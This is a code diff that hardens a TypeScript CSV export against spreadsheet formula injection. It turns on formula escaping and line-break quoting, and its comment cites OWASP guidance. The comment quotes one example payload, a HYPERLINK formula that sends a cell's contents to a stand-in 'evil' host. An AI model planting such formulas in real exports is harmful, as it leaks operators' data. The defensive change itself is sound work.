@@ -2,6 +2,14 @@
  * CSV answers of the list endpoints (`Accept: text/csv`): operators live in spreadsheets. UTF-8
  * with a byte-order mark, so Excel opens Chinese names as Chinese; a header row; one row per item;
  * nested objects flattened into dotted columns (`name.zh`, `quota.electricity.usedPercent`).
+ *
+ * **Formula-safe.** A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some,
+ * a tab or a carriage return) as a formula, so a device name or a dead-lettered payload such as
+ * `=HYPERLINK("http://evil/?"&A1)` would run on the operator's machine. Following the OWASP CSV
+ * injection guidance, such text cells are prefixed with a single quote (csv-stringify's
+ * `escape_formulas`, which also covers the full-width ＝ ＋ － ＠ some spreadsheets normalise).
+ * Numbers are written as numbers: a negative figure (a refund, a temperature) stays `-3.5`.
+ * A cell holding a line break, lone CR or LF included, is quoted, so it cannot start a row.
  */
 import { stringify } from 'csv-stringify/sync';
 
@@ -113,6 +121,10 @@ export function toCsv(items: readonly unknown[], columns?: readonly string[]): s
     header: true,
     columns: header.map((key) => ({ key, header: key })),
     record_delimiter: 'windows',
+    escape_formulas: true,
+    // With an explicit record delimiter csv-stringify quotes only cells holding that exact
+    // sequence; a lone LF or CR (a dead-lettered payload) would then split the row.
+    quote_record_delimiter: true,
     cast: { boolean: (v) => (v ? 'true' : 'false') },
   });
 }
